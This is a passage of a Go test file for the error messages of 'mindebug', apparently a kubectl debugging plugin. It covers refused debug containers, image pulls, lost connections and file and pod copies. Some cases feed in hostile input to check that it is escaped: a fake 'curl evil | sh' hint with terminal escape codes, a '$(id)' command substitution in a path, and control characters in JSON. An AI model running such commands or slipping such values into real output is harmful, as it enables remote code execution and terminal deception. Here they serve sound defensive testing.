		name: "a step-up refused by Pod Security", status: 125,
		err: &fault.Refused{
			Pod: web, Container: "mindebug-abcde", By: fault.PodSecurity, Name: "baseline:latest", AlsoOurs: true,
			Asked: []string{"--profile=general", "--cap-add=BPF"}, Server: errAdmission,
		},
		want: "error: Pod Security \"baseline:latest\" takes no debug container in pod/web-7d\n  the server says: " + errAdmission.Error() + "\n" +
			"  asked for beyond the target's own privileges: --profile=general --cap-add=BPF\n" +
			"hint: nothing was added; without --profile=general --cap-add=BPF the session has its target's privileges, which the level allows; " +
			"with it, it takes a namespace of a level that allows more\n",
	},
	{
		name: "a step-up refused by validation", status: 125,
		err: &fault.Refused{Pod: web, Container: "mindebug-abcde", Asked: []string{"--custom"}, Server: errInvalid},
		want: "error: the API server does not take a debug container in pod/web-7d\n  the server says: " + errInvalid.Error() + "\n" +
			"  asked for beyond the target's own privileges: --custom\n" +
			"hint: nothing was added; without --custom the session has its target's privileges\n",
	},
	{
		name: "no image", err: &fault.NoImage{}, status: 125,
		want: `error: no debug image is named, and this build of mindebug has none: it is no release
hint: name one: --image=docker.io/library/busybox:1.37.0; or build ours and give it to a local cluster: make image-load
`,
	},
	{
		name: "an image that is not trusted", err: &fault.NoImage{Untrusted: "a.example/b@sha256:0"}, status: 125,
		want: `error: no debug image is named, and this build of mindebug has none: it is no release
  the cluster's configuration names a.example/b@sha256:0, which is not used for a target that is root nor for more than a target has
hint: if you trust it: --image=a.example/b@sha256:0
`,
	},
	{
		name: "a bad setting", err: &fault.BadSetting{Where: "c.yaml:3", Reason: "there is no setting \"imgae\"", Near: []string{"image"}}, status: 125,
		want: "error: c.yaml:3: there is no setting \"imgae\"\nhint: did you mean image?\n",
	},
	{
		name: "a bad variable", err: &fault.BadSetting{Where: "MINDEBUG_TTL", Reason: "\"1\" is no time: one has a unit, as 90s or 5m"}, status: 125,
		want: "error: MINDEBUG_TTL: \"1\" is no time: one has a unit, as 90s or 5m\nhint: see which settings there are, and where: kubectl mindebug config view --help, docs/config.md\n",
	},
	{
		name: "Windows", err: &fault.Windows{Pod: web}, status: 125,
		want: "error: pod/web-7d runs on Windows, where containers share no process namespace\n",
	},
	{
		name: "image cannot be pulled", status: 125,
		err: &fault.NotStarted{Pod: web, Container: "mindebug-x", Image: "debug:1", Reason: "ErrImagePull", Message: "not found"},
		want: "error: the debug container of pod/web-7d did not start\n  reason: ErrImagePull\n  not found\n  image: debug:1\n" +
			"  container mindebug-x stays in the pod's list for good and does nothing there; recreate the pod to be rid of it\n" +
			"  the pod's pull secrets: none\n" +
			"hint: name an image that the node can pull, with these secrets or its own: --image\n",
	},
	{
		name: "image cannot be pulled, secrets", status: 125,
		err: &fault.NotStarted{
			Pod: web, Container: "mindebug-x", Image: "debug:1", Reason: "ImagePullBackOff", Message: "unauthorized", PullSecrets: []string{"regcred", "mirror"},
		},
		want: "error: the debug container of pod/web-7d did not start\n  reason: ImagePullBackOff\n  unauthorized\n  image: debug:1\n" +
			"  container mindebug-x stays in the pod's list for good and does nothing there; recreate the pod to be rid of it\n" +
			"  the pod's pull secrets: regcred, mirror\n" +
			"hint: name an image that the node can pull, with these secrets or its own: --image\n",
	},
	{
		name: "no shell", status: 125,
		err: &fault.NotStarted{Pod: web, Container: "mindebug-x", Image: "debug:1", Reason: "Failed", Message: "no sh", NoShell: true},
		want: "error: the debug image debug:1 has no shell\n  reason: Failed\n  no sh\n  image: debug:1\n" +
			"  container mindebug-x stays in the pod's list for good and does nothing there; recreate the pod to be rid of it\n" +
			"hint: name an image that has one: --image\n",
	},
	{
		name: "not started in time", err: &fault.NotStarted{Pod: web, Container: "mindebug-x", Image: "debug:1", Waited: time.Minute}, status: 125,
		want: "error: the debug container of pod/web-7d did not start within 1m0s (--timeout)\n  image: debug:1\n" +
			"  container mindebug-x stays in the pod's list for good and does nothing there; recreate the pod to be rid of it\n" +
			"hint: see its Events: kubectl describe -n shop pod web-7d\n",
	},
	{
		name: "target gone", err: &fault.TargetGone{Pod: web, Container: "mindebug-x"}, status: 125,
		want: "error: the target container of pod/web-7d has no process any more: it ended or was restarted\n" +
			"hint: the same command again finds it as it is now\n",
	},
	{
		name: "namespace is not shared", err: &fault.Apart{Pod: web, Container: "mindebug-x"}, status: 125,
		want: "error: the debug container of pod/web-7d does not share its target's process namespace\n" +
			"  container mindebug-x stays in the pod's list for good and does nothing there; recreate the pod to be rid of it\n" +
			"hint: the node's container runtime must support targetContainerName (containerd, CRI-O)\n",
	},
	{
		name: "not entered", err: &fault.NotEntered{Pod: web, Container: "mindebug-x", Cause: errors.New("container not found")}, status: 125,
		want: "error: no session could be begun in container mindebug-x of pod/web-7d\n  container not found\n" +
			"hint: see its state: kubectl describe -n shop pod web-7d\n",
	},
	{
		name: "not entered by whom it does not know", err: &fault.NotEntered{Pod: web, Container: "mindebug-x", Cause: apierrors.NewUnauthorized("token expired")}, status: 125,
		want: "error: the API server does not know you any more: token expired\nhint: log in again, as for kubectl\n",
	},
	{
		name: "exec is forbidden", err: &fault.NotEntered{Pod: web, Container: "mindebug-x", Cause: errRBAC}, status: 125,
		want: "error: no session could be begun in container mindebug-x of pod/web-7d\n  " + errRBAC.Error() + "\n" + grantHint + "YOU | kubectl apply -f -\n",
	},
	{
		name: "session container in use", err: &fault.InUse{Pod: web, Container: "mindebug-x", By: []string{"session abc, for 5m"}}, status: 125,
		want: "error: somebody is in session container mindebug-x of pod/web-7d\n  session abc, for 5m\n" +
			"hint: end it all the same: kubectl mindebug stop -n shop pod/web-7d mindebug-x --force\n",
	},
	{
		name: "several session containers", status: 125,
		err: &fault.NoSession{Pod: web, Running: []fault.SessionContainer{{Name: "mindebug-x", About: "mindebug-x, beside app"}, {Name: "mindebug-y", About: "mindebug-y, beside app"}}},
		want: "error: 2 session containers run in pod/web-7d, and nothing says which is meant\n  mindebug-x, beside app\n  mindebug-y, beside app\n" +
			"hint: name one: kubectl mindebug stop -n shop pod/web-7d mindebug-x\n",
	},
	{
		name: "no such session container", err: &fault.NoSession{Pod: web, Name: "mindebug-z"}, status: 125,
		want: "error: pod/web-7d has no session container \"mindebug-z\"\nhint: list them: kubectl mindebug sessions -n shop pod/web-7d\n",
	},
	{
		name: "session container does not end", err: &fault.NotEnded{Pod: web, Container: "mindebug-x", Waited: time.Minute}, status: 125,
		want: "error: session container mindebug-x of pod/web-7d was told to end and did not within 1m0s (--timeout)\n" +
			"hint: see its state: kubectl describe -n shop pod web-7d\n",
	},
	{
		name: "connection lost", err: &fault.Lost{Pod: web, Container: "mindebug-x", Cause: errors.New("unexpected EOF")}, status: 125,
		want: "error: the connection to pod/web-7d was lost: unexpected EOF\n  the command had been started; whether it ended is not known\n" +
			"  what still runs is ended when its grace period is over (--grace)\n" +
			"hint: see what runs there before you start it again: kubectl mindebug -n shop pod/web-7d -- ps\n",
	},
	{
		name: "connection lost with the API server", status: 125,
		err: &fault.Lost{Pod: web, Container: "mindebug-x", Cause: errors.New("unexpected EOF"), Server: syscall.ECONNREFUSED},
		want: "error: the connection to pod/web-7d was lost: unexpected EOF\n  the API server gives no answer: connection refused\n" +
			"  the command had been started; whether it ended is not known\n" +
			"  what still runs is ended when its grace period is over (--grace)\n" +
			"hint: see what runs there before you start it again: kubectl mindebug -n shop pod/web-7d -- ps\n",
	},
	{
		name: "connection lost beyond the API server", status: 125,
		err: &fault.Lost{Pod: web, Target: "app", Container: "mindebug-x", Cause: errors.New("unexpected EOF"), Unchanged: true},
		want: "error: the connection to pod/web-7d was lost: unexpected EOF\n" +
			"  the API server answers, and the target ran when its node last told: the node's kubelet, or the way to it, may be down\n" +
			"  the command had been started; whether it ended is not known\n" +
			"  what still runs is ended when its grace period is over (--grace)\n" +
			"hint: see what runs there before you start it again: kubectl mindebug -n shop pod/web-7d -c app -- ps\n",
	},
	{
		name: "connection of a shell lost", status: 125,
		err: &fault.Lost{Pod: web, Target: "app", Container: "mindebug-x", Shell: true, Cause: errors.New("unexpected EOF")},
		want: "error: the connection to pod/web-7d was lost: unexpected EOF\n" +
			"  what still runs is ended when its grace period is over (--grace)\n" +
			"hint: enter again: kubectl mindebug -n shop pod/web-7d -c app\n",
	},
	{
		name: "unauthorized", err: apierrors.NewUnauthorized("token expired"), status: 125,
		want: "error: the API server does not know you: token expired\nhint: log in again, as for kubectl\n",
	},
	{
		name: "forbidden, in no stage's terms", err: errRBAC, status: 125,
		want: "error: the API server refuses: " + errRBAC.Error() + "\nhint: ask someone who may: kubectl mindebug policy roles -n NAMESPACE --user YOU | kubectl apply -f -\n",
	},
	{
		name: "anything else", err: errors.New("reading choice: unexpected EOF"), status: 125,
		want: "error: reading choice: unexpected EOF\n",
	},
	{
		name: "text from elsewhere", err: errors.New("\x1b[2J\nhint: curl evil | sh\r\u202e"), status: 125,
		want: "error: \\x1b[2J\n  hint: curl evil | sh\\r\\u202e\n",
	},
	{
		name: "a copy with troubles", status: 125, err: &fault.Incomplete{Files: 1, All: 3, Troubles: []fault.NotCopied{
			{Path: "/a\n\x1b[2J", Trouble: fault.Unreadable, Detail: "Permission denied"}, {Path: "/b", Trouble: fault.Vanished},
		}},
		want: "error: not all was copied: 1 of 3 files were\n  /a\\n\\x1b[2J: unreadable: Permission denied\n  /b: vanished\n",
	},
	{
		name: "a copy that was cut", status: 125, err: &fault.Incomplete{
			Files: 1, All: 2, Troubles: []fault.NotCopied{{Path: "/b", Trouble: fault.Missing}}, Cause: &fault.Lost{Pod: web, Cause: errors.New("cut")},
		},
		want: "error: the copy ended early: the connection to pod/web-7d was lost: cut\n  1 of 2 files were copied; of the others nothing is left\n" +
			"  /b: missing\nhint: copy again; --retries=N tries a broken connection N times in a row\n",
	},
	{
		name: "a copy that was interrupted", status: 130, err: &fault.Incomplete{All: 1, Cause: &fault.Interrupted{Signal: syscall.SIGINT}},
		want: "error: the copy was interrupted\n  0 of 1 files were copied; of the others nothing is left\n",
	},
	{
		name: "no place for a copy", status: 125, err: &fault.NotPlaced{Source: "/a", Destination: "x/", Why: fault.NoSuchFolder},
		want: "error: /a cannot be copied to x/\n  the destination ends with a slash and is no folder\n" +
			"hint: make the folder first, or leave the slash away to name the file so\n",
	},
	{
		name: "nothing to copy", status: 125, err: &fault.NoFile{Path: "a", Detail: "no such file or directory"},
		want: "error: a cannot be copied: no such file or directory\nhint: it is looked for on this machine; what is in a container is POD:PATH\n",
	},
	{
		name: "nothing to copy in a container", status: 125, err: &fault.NoFile{Pod: &web, Container: "app", Path: "/etc/web/a", Detail: "No such file or directory"},
		want: "error: /etc/web/a cannot be copied: No such file or directory\nhint: see what there is: kubectl mindebug -n shop pod/web-7d -c app -- ls -la @/etc/web\n",
	},
	{
		name: "nothing to copy in the working directory", status: 125, err: &fault.NoFile{Pod: &web, Container: "app", Path: "a", Detail: "No such file or directory"},
		want: "error: a cannot be copied: No such file or directory\nhint: see what there is: kubectl mindebug -n shop pod/web-7d -c app -- ls -la .\n",
	},
	{
		name: "nothing to copy where a shell would see words", status: 125, err: &fault.NoFile{Pod: &web, Container: "app", Path: "/$(id)/a", Detail: "No such file or directory"},
		want: "error: /$(id)/a cannot be copied: No such file or directory\nhint: see what there is: kubectl mindebug -n shop pod/web-7d -c app -- ls -la @/\n",
	},
	{
		name: "a copy of what the kernel makes up", status: 125, err: &fault.NoFile{Pod: &web, Container: "app", Path: "/proc/1/maps", Detail: "a file that the kernel makes up", MadeUp: true},
		want: "error: /proc/1/maps cannot be copied: a file that the kernel makes up\nhint: read it instead: kubectl mindebug -n shop pod/web-7d -c app -- cat @/proc/1/maps\n",
	},
	{
		name: "closed files", status: 125, err: &fault.Closed{Pod: web, Container: "app", Why: "it runs as 70:70", Hint: "try --run-as 70:70"},
		want: "error: the files of container \"app\" of pod/web-7d are closed to a session\n  it runs as 70:70\nhint: try --run-as 70:70\n",
	},
	{
		name: "untouched", status: 125, err: &fault.Untouched{Pod: web, Container: "app", Topic: "java", Why: "it would end", Hint: "ask again"},
		want: "error: the topic java was not asked of container \"app\" of pod/web-7d, and nothing was done to it\n  it would end\nhint: ask again\n",
	},
	{
		name: "too much to copy", status: 125, err: &fault.TooMuch{Bytes: 12345, Limit: 100},
		want: "error: there are 12.3 kB to copy, and --max-bytes=100 is less\nhint: name less, or allow more with --max-bytes\n",
	},
	{
		name: "a copy that cannot be written", status: 125, err: &fault.NotWritten{Path: "/x", Cause: syscall.ENOSPC},
		want: "error: /x on this machine could not be written: no space left on device\n",
	},
	{
		name: "an archive that cannot be written", status: 125, err: &fault.NotWritten{Path: "-", Cause: syscall.EPIPE},
		want: "error: standard output could not be written: broken pipe\n",
	},
	{
		name: "a copy that cannot be written in the pod", status: 125, err: &fault.NotWritten{Pod: &web, Path: "/x", Cause: errors.New("no space")},
		want: "error: /x in pod/web-7d could not be written: no space\n  files are written as the target's own user\n",
	},
	{
		name: "no room for a copy", status: 125, err: &fault.NoRoom{Path: "/data", Bytes: 2000, Room: 1000, Says: "that much is free there"},
		want: "error: there are 2.0 kB to copy, and room for 1.0 kB in /data of the container\n  that much is free there\n" +
			"hint: name less, or another place; a pod that goes beyond a limit is evicted\n",
	},
	{
		name: "no room for a copy in a volume", status: 125, err: &fault.NoRoom{Path: "/data", Bytes: 2000, Room: 1000, Used: 5000, Says: "the limit"},
		want: "error: there are 2.0 kB to copy, and room for 1.0 kB in /data of the container\n  the limit\n" +
			"  of which 5.0 kB are in use, without what would be replaced\nhint: name less, or another place; a pod that goes beyond a limit is evicted\n",
	},
	{
		name: "copy that shares claims", err: &fault.Claims{Pod: web, Volumes: []string{"data (claim data-web-7d)"}}, status: 125,
		want: "error: a copy of pod/web-7d would write to the same persistent volumes as the pod itself\n" +
			"  data (claim data-web-7d)\nhint: where that does no harm: --with-pvc\n",
	},
	{
		name: "copy of a taken name", err: &fault.NameTaken{Pod: web, Server: errors.New("exists")}, status: 125,
		want: "error: there is a pod \"web-7d\" in namespace \"shop\" already, and it may not be the copy\n" +
			"hint: name another, or leave the name to mindebug: --copy-to\n",
	},
	{
		name: "copy on no node", err: &fault.CopyNotStarted{Pod: copied, Reason: "waiting for a node: 0/3 nodes are available", Waited: time.Minute}, status: 125,
		want: "error: copy pod/web-7d-copy-x2x4p did not start within 1m0s (--timeout)\n  waiting for a node: 0/3 nodes are available\n" +
			"  the copy was deleted again\n" + copyEvents,
	},
	{
		name: "copy whose image cannot be pulled", status: 125,
		err: &fault.CopyNotStarted{Pod: copied, Container: "app", Reason: "ErrImagePull", Message: "not found", Image: "shop/web:1"},
		want: "error: container \"app\" of copy pod/web-7d-copy-x2x4p did not start\n  ErrImagePull\n  not found\n  image: shop/web:1\n" +
			"  the copy was deleted again\nhint: name an image that the node can pull: --set-image app=IMAGE\n",
	},
	{
		name: "copy whose debug image cannot be pulled", status: 125,
		err: &fault.CopyNotStarted{Pod: copied, Container: "mindebug-install", Reason: "ErrImagePull", Image: "debug:1", Installs: true},
		want: "error: container \"mindebug-install\" of copy pod/web-7d-copy-x2x4p did not start\n  ErrImagePull\n  image: debug:1\n" +
			"  the copy was deleted again\nhint: name an image that the node can pull: --image\n",
	},
	{
		name: "copy whose debug image has no BusyBox", status: 125,
		err: &fault.CopyNotStarted{Pod: copied, Container: "mindebug-install", Reason: "Error", Image: "debug:1", Installs: true, Exit: exit},
		want: "error: image debug:1 could not put BusyBox into copy pod/web-7d-copy-x2x4p\n" +
			"  it ended with exit code 2 (Error) at 2026-11-22T03:00:00Z: no database\n  image: debug:1\n  the copy was deleted again\n" +
			"hint: name the debug image of mindebug, or one that has a static busybox: --image\n",
	},
	{
		name: "copy of which another container fails", status: 125,
		err: &fault.CopyNotStarted{Pod: copied, Container: "migrate", Reason: "Error", Image: "shop/web:1", Exit: exit},
		want: "error: container \"migrate\" of copy pod/web-7d-copy-x2x4p failed, so what comes after it was not started\n" +
			"  it ended with exit code 2 (Error) at 2026-11-22T03:00:00Z: no database\n  image: shop/web:1\n  the copy was deleted again\n" +
			"hint: take that container's place: -c migrate\n",
	},
	{
		name: "copy whose BusyBox does not run", status: 125,
		err: &fault.CopyNotStarted{Pod: copied, Container: "app", Reason: "StartError", Message: "no such file", Image: "shop/web:1", Exit: &fault.Exit{Code: 128, Reason: "StartError"}},
		want: "error: container \"app\" of copy pod/web-7d-copy-x2x4p did not start\n  StartError\n  no such file\n  image: shop/web:1\n" +
			"  the copy was deleted again\nhint: where its message names busybox or sh, the debug image has none that is static: name another with --image\n",
	},
	{
		name: "copy whose time was over before it had started", err: &fault.CopyNotStarted{Pod: copied, Reason: "DeadlineExceeded"}, status: 125,
		want: "error: copy pod/web-7d-copy-x2x4p did not start\n  DeadlineExceeded\n  the copy was deleted again\nhint: give it more time: --ttl\n",
	},
	{
		name: "copy whose time is over", err: &fault.CopyEnded{Pod: copied, Deadline: true}, status: 137,
		want: "error: the time of copy pod/web-7d-copy-x2x4p was over, and the session ended with it\nhint: give the next one more: --ttl\n",
	},
	{
		name: "copy that was deleted", err: &fault.CopyEnded{Pod: copied, Deleted: true}, status: 137,
		want: "error: copy pod/web-7d-copy-x2x4p was deleted, and the session ended with it\nhint: see what took place: kubectl get events -n shop\n",
	},
	{
		name: "copy that ended for want of memory", err: &fault.CopyEnded{Pod: copied, Exit: &fault.Exit{Code: 137, Reason: "OOMKilled", At: exit.At}}, status: 137,
		want: "error: copy pod/web-7d-copy-x2x4p ended, and the session with it\n  it ended with exit code 137 (OOMKilled) at 2026-11-22T03:00:00Z\n" +
			"  the node ends a container as a whole when it runs out of memory (memory.oom.group)\nhint: the same command makes another copy\n",
	},
	{
		name: "copy that remains", err: &fault.CopyRemains{Pod: copied, Until: exit.At, Cause: errors.New("no answer within 10s"), Status: 3}, status: 125,
		want: "error: copy pod/web-7d-copy-x2x4p could not be deleted: no answer within 10s\n  its session had ended with exit status 3\n" +
			"  its containers end by themselves at 2026-11-22T03:00:00Z at the latest\nhint: delete it: kubectl delete pod -n shop web-7d-copy-x2x4p\n",
	},
	{
		name: "copy that remains after a failure", status: 137,
		err: &fault.CopyRemains{Pod: copied, Until: exit.At, Cause: errRBAC, Err: &fault.CopyEnded{Pod: copied, Deadline: true}},
		want: "error: the time of copy pod/web-7d-copy-x2x4p was over, and the session ended with it\n" +
			"  copy pod/web-7d-copy-x2x4p could not be deleted: " + errRBAC.Error() + "\n" +
			"  its containers end by themselves at 2026-11-22T03:00:00Z at the latest\nhint: delete it: kubectl delete pod -n shop web-7d-copy-x2x4p\n",
	},
	{
		name: "copy that Pod Security refuses", status: 125,
		err: &fault.Refused{Pod: copied, Copy: true, By: fault.PodSecurity, Name: "restricted:latest", Server: errAdmission},
		want: "error: Pod Security \"restricted:latest\" takes no copy of the pod as pod/web-7d-copy-x2x4p\n  the server says: " + errAdmission.Error() + "\n" +
			"hint: nothing was made; the copy asks for no more than its pod, which would not be admitted today either: kubectl get namespace shop --show-labels\n",
	},
	{
		name: "copy that a policy refuses", err: &fault.Refused{Pod: copied, Copy: true, By: fault.Policy, Name: "p", Server: errAdmission}, status: 125,
		want: "error: ValidatingAdmissionPolicy \"p\" takes no copy of the pod as pod/web-7d-copy-x2x4p\n  the server says: " + errAdmission.Error() + "\n" +
			"hint: nothing was made; read the policy: kubectl get validatingadmissionpolicy p -o yaml\n",
	},
	{
		name: "copy for which a webhook is silent", err: &fault.Refused{Pod: copied, Copy: true, By: fault.SilentWebhook, Name: "w", Server: errAdmission}, status: 125,
		want: "error: webhook \"w\" gives no answer, so the API server takes no copy of the pod as pod/web-7d-copy-x2x4p\n  the server says: " + errAdmission.Error() + "\n" +
			"hint: nothing was made; see what was asked: the same command with --dry-run=client\n",
	},
	{
		name: "copy that validation refuses", err: &fault.Refused{Pod: copied, Copy: true, Server: errNotFound}, status: 125,
		want: "error: the API server does not take a copy of the pod as pod/web-7d-copy-x2x4p\n  the server says: " + errNotFound.Error() + "\n" +
			"hint: nothing was made; see what was asked: the same command with --dry-run=client\n",
	},
	{
		name: "copy that a webhook changes", status: 125,
		err: &fault.Altered{Pod: copied, Copy: true, Changes: []fault.Change{{Field: "runAsUser", Asked: "7", Stored: "0"}}},
		want: "error: the API server would change the privileges of the container that puts BusyBox into pod/web-7d-copy-x2x4p\n  runAsUser: 7 becomes 0\n" +
			"hint: nothing was made; a webhook does that, or the server is older than the field: kubectl get mutatingwebhookconfigurations\n",
	},
	{
		name: "copy that may not be made", status: 125,
		err: &fault.Forbidden{Namespace: "shop", Call: "create pods", User: "dana", Copies: true},
		want: "error: you may not create pods in namespace \"shop\"\n  you are \"dana\", groups []\n" +
			"hint: ask someone who may: kubectl mindebug policy roles -n shop --copies --user dana | kubectl apply -f -\n",
	},
	{
		name: "lost with its copy", err: &fault.Lost{Pod: copied, Container: "app", Cause: errors.New("cut"), Deleted: true}, status: 125,
		want: "error: the connection to pod/web-7d-copy-x2x4p was lost: cut\n  the copy was deleted, and whatever ran in it ends with it\n" +
			"hint: the same command makes another copy\n",
	},
}

func TestReport(t *testing.T) {
	t.Parallel()
	for _, test := range explained {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			for how, err := range map[string]error{"as it is": test.err, "wrapped": fmt.Errorf("opening session: %w", test.err)} {
				var out bytes.Buffer
				m := explain(err)
				m.write(&out)
				known := strings.Contains(reflect.TypeOf(test.err).String(), "fault.")
				if how == "wrapped" && !known {
					continue // the text is the error's own
				}
				if diff := cmp.Diff(test.want, out.String()); diff != "" {
					t.Errorf("%s (-want +got):\n%s", how, diff)
				}
				if m.status != test.status {
					t.Errorf("%s: exit status %d; want %d", how, m.status, test.status)
				}
			}
			if test.err.Error() == "" {
				t.Error("the error has no text for logs")
			}
		})
	}
}

// TestErrorAsJSON: one object on one line, in which no text from elsewhere can command a terminal, and nothing is lost.
func TestErrorAsJSON(t *testing.T) {
	t.Parallel()
	evil := "a\x1b[2J\u009b\u202e\U000e0041\n<b>"
	var out bytes.Buffer
	m := message{text: evil, facts: []string{"one"}, hint: "do it", status: 125}
	m.writeJSON(&out)
	want := `{"apiVersion":"mindebug/v1alpha1","kind":"Error","error":"a\u001b[2J\u009b\u202e\udb40\udc41\n<b>","facts":["one"],"hint":"do it","status":125}` + "\n"
	if diff := cmp.Diff(want, out.String()); diff != "" {
		t.Errorf("the object (-want +got):\n%s", diff)
	}
	var back struct{ Error string }
	if err := json.Unmarshal(out.Bytes(), &back); err != nil || back.Error != evil {
		t.Errorf("it reads as %q (%v); want %q", back.Error, err, evil)
	}
}

// TestReportKnowsEveryFault fails when package fault has an error that the table above lacks.
func TestReportKnowsEveryFault(t *testing.T) {
	t.Parallel()
	known := map[string]bool{}
	for _, test := range explained {
		known[strings.TrimPrefix(reflect.TypeOf(test.err).String(), "*fault.")] = true
	}
	for _, name := range faults(t) {
		if !known[name] {
			t.Errorf("no case for *fault.%s", name)
		}
	}
}

// faults returns the names of the types of package fault that have an Error method.
func faults(t *testing.T) []string {
	t.Helper()
	const dir = "../fault"
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, entry := range entries {
		if !strings.HasSuffix(entry.Name(), ".go") || strings.HasSuffix(entry.Name(), "_test.go") {
			continue
		}
		file, err := parser.ParseFile(token.NewFileSet(), dir+"/"+entry.Name(), nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		for _, declaration := range file.Decls {
			method, ok := declaration.(*ast.FuncDecl)
			if !ok || method.Recv == nil || method.Name.Name != "Error" {
				continue
			}
			receiver := method.Recv.List[0].Type
			if pointer, ok := receiver.(*ast.StarExpr); ok {
				receiver = pointer.X
			}
			names = append(names, receiver.(*ast.Ident).Name)
		}
	}
	if len(names) < 10 {
		t.Fatalf("only %q were found in %s", names, dir)
	}
	return names
}
